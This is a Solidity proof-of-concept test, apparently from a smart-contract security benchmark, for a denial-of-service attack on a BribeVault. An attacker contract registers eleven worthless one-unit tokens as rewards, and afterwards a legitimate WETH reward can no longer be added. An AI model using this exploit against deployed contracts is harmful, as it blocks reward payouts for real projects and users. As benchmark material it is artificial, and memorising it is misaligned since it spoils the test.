// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-48e9535b-ccf6-4b43-98e5-c5dec91c543b
import "../Base.sol";

contract Paper is ERC20 {
    constructor() ERC20("PAPER", "PAPER") {
        _mint(msg.sender, 1);
    }
}

contract Attacker {
    function run(BribeVault bribes) external {
        for (uint256 i = 0; i < 11; i++) {
            Paper paper = new Paper();
            paper.approve(address(bribes), 1);
            bribes.addReward(address(paper), 1, 1);
        }
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
        weth.mint(address(this), 10e18);
        weth.approve(address(bribesA), 10e18);
    }

    function exploit() public {
        other.run(bribesA);
    }

    function test_Exploit() public {
        exploit();
        (bool done,) = address(this).call(abi.encodeCall(this.addsReward, ()));
        require(!done, "can add rewards");
    }

    /// A project adds rewards in a token that governance allows.
    function addsReward() public {
        bribesA.addReward(address(weth), 1e18, 1);
    }

    function target() public view override returns (address) {
        return address(bribesA);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
